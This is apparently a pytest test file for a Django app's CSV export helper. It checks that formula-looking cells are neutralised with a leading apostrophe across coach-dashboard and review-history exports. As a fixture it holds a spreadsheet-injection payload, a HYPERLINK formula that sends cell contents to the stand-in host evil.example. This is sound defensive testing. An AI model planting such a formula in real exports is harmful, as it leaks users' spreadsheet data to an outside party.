"""One CSV writer for every export (issue 21, finding 5): formula-looking text neutralised, numbers kept.

A cell a spreadsheet would run as a formula -- text starting with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return -- is written with a leading apostrophe; numbers, and text that is exactly a number,
are written unchanged.
"""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from django.test import Client
from django.utils import timezone

from core.csv_export import neutralise, write_csv
from tests.factories import UserFactory

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"open")'


@pytest.mark.parametrize("text", [HYPERLINK, "+1-2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1", "-", "+"])
def test_formula_text_gets_an_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", [0, -3, 2.5, -0.25, Decimal("-1.50"), True, "-3", "+0.5", "-12.5%", "1e-3",
                                   "kv-cache", "a=b", "", "53 users"])
def test_numbers_and_ordinary_text_are_unchanged(value):
    assert neutralise(value) == value


def test_none_is_an_empty_cell_and_the_header_goes_through_the_same_rule():
    rows = list(csv.reader(io.StringIO(write_csv(["=cmd", "n"], [[None, -4], [HYPERLINK, 7.5]]))))
    assert rows == [["'=cmd", "n"], ["", "-4"], ["'" + HYPERLINK, "7.5"]]


@pytest.mark.django_db
def test_the_coach_dashboard_export_neutralises_a_set_title_and_a_username():
    from coaching import services
    from coaching.models import QuestionSet

    coach, candidate = UserFactory(username="carol", role="coach"), UserFactory(username="+1-2", role="candidate")
    cohort = services.create_cohort(coach, "Spring")
    services.accept_invitation(services.invite(cohort), candidate)
    question_set = QuestionSet.objects.create(coach=coach, title=HYPERLINK)
    item = services.save_question(coach, {"prompt": "Why?", "model_answer": "Because.", "rubric": ["a"],
                                          "tags": [], "misconceptions": [], "difficulty": 2})
    services.add_entry(question_set, item=item)
    services.assign(question_set, coach, cohort=cohort, due_at=timezone.now() + timedelta(days=2))
    client = Client()
    client.force_login(coach)
    response = client.get(f"/coach/?export=cohort-{cohort.pk}")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][1].startswith("'" + HYPERLINK)
    assert rows[1][0] == "'+1-2"


@pytest.mark.django_db
def test_the_review_history_export_neutralises_an_answer():
    from drills.models import BankItem, Card, ReviewLog
    from drills.reviews.exports import history_csv

    candidate = UserFactory(username="alice", role="candidate")
    item = BankItem.objects.create(slug="q1", prompt="Why?", model_answer="Because.", rubric=["a"])
    now = timezone.now()
    card = Card.objects.create(user=candidate, item=item, due=now)
    ReviewLog.objects.create(user=candidate, card=card, item=item, item_slug="q1", card_version=1, rating=3,
                             answer=HYPERLINK, reviewed_at=now, state_before=0, due_after=now)
    text = history_csv(candidate)
    assert "'" + HYPERLINK.replace('"', '""') in text
